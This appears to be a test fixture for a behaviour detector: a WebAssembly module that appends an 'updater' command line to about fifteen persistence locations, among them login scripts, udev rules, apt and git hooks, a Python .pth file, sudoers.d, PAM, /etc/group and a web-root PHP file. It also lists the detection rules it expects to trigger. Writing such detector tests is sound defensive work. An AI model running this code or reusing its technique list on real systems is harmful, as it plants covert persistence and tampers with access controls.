;; RUN: spoor run %
;; WHAT: Makes itself at home in programs: writes to what sessions, devices, networks, package managers,
;;   version control, interpreters, editors, Office, Windows, sudo, PAM and a web server read or run.
;; EXPECT: rule=persistence/event rule=persistence/tool rule=persistence/login rule=persistence/linker rule=persistence/autostart rule=persistence/service status=exited file=/etc/group:created
(module
  (import "wasi_snapshot_preview1" "path_open" (func $path_open (param i32 i32 i32 i32 i32 i64 i64 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "path_create_directory" (func $path_create_directory (param i32 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "fd_write" (func $fd_write (param i32 i32 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "fd_close" (func $fd_close (param i32) (result i32)))
  (memory (export "memory") 1)
  (data (i32.const 1024)
    "home/user/.xsession\00"
    "Users/user/Library/Preferences/com.apple.loginitems.plist\00"
    "etc/udev/rules.d/99-stick.rules\00"
    "etc/NetworkManager/dispatcher.d/30-updater\00"
    "etc/update-motd.d/10-updater\00"
    "etc/apt/apt.conf.d/99updater\00"
    "home/user/garden/.git/hooks/post-merge\00"
    "usr/lib/python3/dist-packages/updater.pth\00"
    "home/user/.vim/plugin/updater.vim\00"
    "Users/user/AppData/Roaming/Microsoft/Word/STARTUP/updater.dotm\00"
    "Windows/System32/updater.dll\00"
    "etc/sudoers.d/updater\00"
    "etc/group\00"
    "etc/pam.d/updater\00"
    "var/www/html/updater.php\00")
  (data (i32.const 4096) "/home/user/.local/bin/updater --quiet\n")
  (func $append (param $path i32) (param $len i32)
    (if (i32.eqz (call $path_open (i32.const 3) (i32.const 1) (local.get $path) (local.get $len) (i32.const 1)
        (i64.const 0x40) (i64.const 0) (i32.const 1) (i32.const 12)))
      (then
        (i32.store (i32.const 0) (i32.const 4096))
        (i32.store (i32.const 4) (i32.const 38))
        (drop (call $fd_write (i32.load (i32.const 12)) (i32.const 0) (i32.const 1) (i32.const 8)))
        (drop (call $fd_close (i32.load (i32.const 12)))))))
  ;; Each path of the list: the directories on its way, then the file.
  (func $all (param $at i32) (local $begin i32)
    (local.set $begin (local.get $at))
    (loop $next
      (if (i32.eq (i32.load8_u (local.get $at)) (i32.const 47))
        (then (drop (call $path_create_directory (i32.const 3) (local.get $begin)
          (i32.sub (local.get $at) (local.get $begin))))))
      (if (i32.eqz (i32.load8_u (local.get $at)))
        (then
          (call $append (local.get $begin) (i32.sub (local.get $at) (local.get $begin)))
          (local.set $begin (i32.add (local.get $at) (i32.const 1)))))
      (local.set $at (i32.add (local.get $at) (i32.const 1)))
      (br_if $next (i32.lt_u (local.get $at) (i32.const 1517)))))
  (func (export "_start") (call $all (i32.const 1024))))
